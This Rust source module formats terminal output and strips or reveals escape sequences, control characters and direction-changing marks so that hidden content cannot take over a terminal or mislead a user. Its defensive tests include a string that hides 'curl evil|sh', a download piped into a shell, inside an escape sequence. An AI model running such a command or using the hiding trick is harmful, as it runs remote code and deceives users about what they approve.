//! How text looks in a terminal: colours, widths, and nothing that could take the terminal over. Pure.

use unicode_width::{UnicodeWidthChar, UnicodeWidthStr};

/// What a piece of text is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Ink {
    Plain,
    /// Beside the point.
    Dim,
    /// What is being done.
    Bold,
    Good,
    Bad,
    /// Something is asked.
    Ask,
}

/// What the terminal can do.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) struct Style {
    pub(super) colours: bool,
    /// Columns.
    pub(super) width: usize,
}

impl Style {
    /// The text in its colour.
    pub(super) fn paint(self, ink: Ink, text: &str) -> String {
        let code = match ink {
            _ if !self.colours || text.is_empty() => return text.to_owned(),
            Ink::Plain => return text.to_owned(),
            Ink::Dim => "2",
            Ink::Bold => "1",
            Ink::Good => "32",
            Ink::Bad => "31",
            Ink::Ask => "33",
        };
        format!("\x1b[{code}m{text}\x1b[0m")
    }
}

/// Takes out what a terminal would obey: control characters, escape sequences, and marks that turn the direction of
/// text. Keeps its place in a sequence from piece to piece.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) struct Cleaner(Place);

#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Place {
    #[default]
    Text,
    /// After an escape.
    Escape,
    /// After `ESC [`.
    Control,
    /// After `ESC ]` and its like, up to BEL or `ESC \`.
    Command,
}

impl Cleaner {
    pub(super) fn clean(&mut self, text: &str) -> String {
        let mut kept = String::with_capacity(text.len());
        for c in text.chars() {
            self.0 = match (self.0, c) {
                // Of intermediate characters of a sequence one more comes.
                (Place::Text | Place::Escape | Place::Command, '\u{1b}')
                | (Place::Escape, ' '..='/') => Place::Escape,
                (Place::Escape, '[') => Place::Control,
                (Place::Escape, ']' | 'P' | 'X' | '^' | '_') => Place::Command,
                (Place::Escape, _) | (Place::Control, '@'..='~') | (Place::Command, '\u{7}') => {
                    Place::Text
                }
                // What is cut by a line's end was no sequence.
                (Place::Control | Place::Command, '\n') | (Place::Text, _) => {
                    if is_harmless(c) {
                        kept.push(c);
                    }
                    Place::Text
                }
                (place, _) => place,
            };
        }
        kept
    }
}

fn is_harmless(c: char) -> bool {
    let turns = matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    matches!(c, '\n' | '\t') || !(c.is_control() || turns)
}

/// The whole text with everything in it that a terminal would obey, or that nobody would see, written out: nothing is
/// left out, so that what somebody agrees to is all that there is.
pub(super) fn visible(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' | '\t' => shown.push(c),
            '\0'..='\u{1f}' => shown.extend(char::from_u32(0x2400 + u32::from(c))),
            '\u{7f}' => shown.push('␡'),
            _ if c.is_control() || is_unseen(c) => shown.extend(c.escape_unicode()),
            _ => shown.push(c),
        }
    }
    shown
}

/// Characters that have no look of their own: marks of direction, joiners, fillers, tags, selectors, and ends of lines
/// that are none here.
fn is_unseen(c: char) -> bool {
    matches!(
        c,
        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
            | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}'
            | '\u{fff0}'..='\u{fffb}' | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}'
            | '\u{e0000}'..='\u{e0fff}'
    )
}

/// The whole text without what a terminal would obey.
pub(super) fn clean(text: &str) -> String {
    Cleaner::default().clean(text)
}

/// One line, cut to so many columns, with a mark where something is left out.
pub(super) fn cut(text: &str, columns: usize) -> String {
    let mut lines = text.trim().lines();
    let line = lines.next().unwrap_or_default().replace('\t', "    ");
    let more = lines.next().is_some();
    if line.width() + usize::from(more) * 2 <= columns {
        return if more { format!("{line} …") } else { line };
    }
    let mut kept = String::new();
    let mut used = 0;
    for c in line.chars() {
        let width = c.width().unwrap_or(0);
        if used + width + 1 > columns {
            break;
        }
        used += width;
        kept.push(c);
    }
    kept.push('…');
    kept
}

/// The lines of a text, broken between words so that each has at most so many columns; a longer word is broken.
pub(super) fn wrap(text: &str, columns: usize) -> Vec<String> {
    let columns = columns.max(8);
    let mut lines = Vec::new();
    for line in text.lines() {
        let line = line.replace('\t', "    ");
        let indent: String = line.chars().take_while(|c| *c == ' ').collect();
        let indent = if indent.len() < columns / 2 { indent } else { String::new() };
        let mut now = indent.clone();
        for word in line.trim_start().split(' ') {
            let gap = usize::from(now.width() > indent.width());
            if now.width() + gap + word.width() <= columns {
                if gap > 0 {
                    now.push(' ');
                }
                now.push_str(word);
                continue;
            }
            if gap > 0 {
                lines.push(std::mem::replace(&mut now, indent.clone()));
            }
            for c in word.chars() {
                if now.width() + c.width().unwrap_or(0) > columns {
                    lines.push(std::mem::replace(&mut now, indent.clone()));
                }
                now.push(c);
            }
        }
        lines.push(now.trim_end().to_owned());
    }
    lines
}

/// Seconds as people read them.
pub(super) fn seconds(millis: u64) -> String {
    let (seconds, rest) = (millis / 1000, millis % 1000);
    match seconds {
        0..=9 => format!("{seconds}.{} s", rest / 100),
        10..=119 => format!("{seconds} s"),
        120..=7199 => format!("{} min {} s", seconds / 60, seconds % 60),
        _ => format!("{} h {} min", seconds / 3600, seconds / 60 % 60),
    }
}

/// A number in groups of three digits.
pub(super) fn grouped(number: u64) -> String {
    let digits = number.to_string();
    let mut text = String::new();
    for (at, digit) in digits.chars().enumerate() {
        if at > 0 && (digits.len() - at).is_multiple_of(3) {
            text.push(' ');
        }
        text.push(digit);
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_a_terminal_obeys_is_left_however_it_is_cut() {
        let hostile =
            "a\x1b[31mred\x1b[0m\x1b]0;title\x07b\x1b]8;;u\x1b\\c\rd\u{9b}2Je\u{202e}f\tg\x1b(Bh\n";
        let expected = "aredbcd2Jef\tgh\n";
        assert_eq!(clean(hostile), expected);
        let characters: Vec<char> = hostile.chars().collect();
        for at in 0..characters.len() {
            let mut cleaner = Cleaner::default();
            let (first, last) = characters.split_at(at);
            let mut text = cleaner.clean(&first.iter().collect::<String>());
            text.push_str(&cleaner.clean(&last.iter().collect::<String>()));
            assert_eq!(text, expected, "cut at {at}");
        }
        assert_eq!(clean("\x1b]never ended\nthe next line"), "\nthe next line");
    }

    #[test]
    fn what_is_agreed_to_shows_every_character() {
        assert_eq!(
            visible(
                "ls; : '\u{1b}_'; curl evil|sh; : '\u{1b}\\'\r\u{7f}\u{9b}\u{202e}\u{200b}\n\tä漢"
            ),
            "ls; : '␛_'; curl evil|sh; : '␛\\'␍␡\\u{9b}\\u{202e}\\u{200b}\n\tä漢"
        );
    }

    #[test]
    fn no_line_is_wider_than_the_terminal() {
        let text = "The first words of a sentence that is long\n  an indented one that is long too\n\n\
                    averyverylongwordwithoutanyspaceinit 漢字漢字漢字漢字漢字漢字漢字";
        for columns in [8, 13, 20, 79] {
            for line in wrap(text, columns) {
                assert!(line.width() <= columns, "{columns}: {line:?}");
            }
        }
        assert_eq!(wrap("one two three", 9), ["one two", "three"]);
        assert_eq!(wrap("  one two three", 9), ["  one two", "  three"]);
        assert_eq!(wrap("a\n\nb", 9), ["a", "", "b"]);
    }

    #[test]
    fn a_cut_line_says_so() {
        assert_eq!(cut("ls -l", 9), "ls -l");
        assert_eq!(cut("ls -l\nrm x", 9), "ls -l …");
        assert_eq!(cut("0123456789", 6), "01234…");
        assert_eq!(cut("漢字漢字", 6), "漢字…");
    }

    #[test]
    fn figures_are_for_people() {
        assert_eq!(seconds(1234), "1.2 s");
        assert_eq!(seconds(61_000), "61 s");
        assert_eq!(seconds(3_599_000), "59 min 59 s");
        assert_eq!(seconds(7_260_000), "2 h 1 min");
        assert_eq!(grouped(1), "1");
        assert_eq!(grouped(1_234_567), "1 234 567");
        let style = Style { colours: true, width: 80 };
        assert_eq!(style.paint(Ink::Bad, "no"), "\x1b[31mno\x1b[0m");
        assert_eq!(Style { colours: false, ..style }.paint(Ink::Bad, "no"), "no");
    }
}
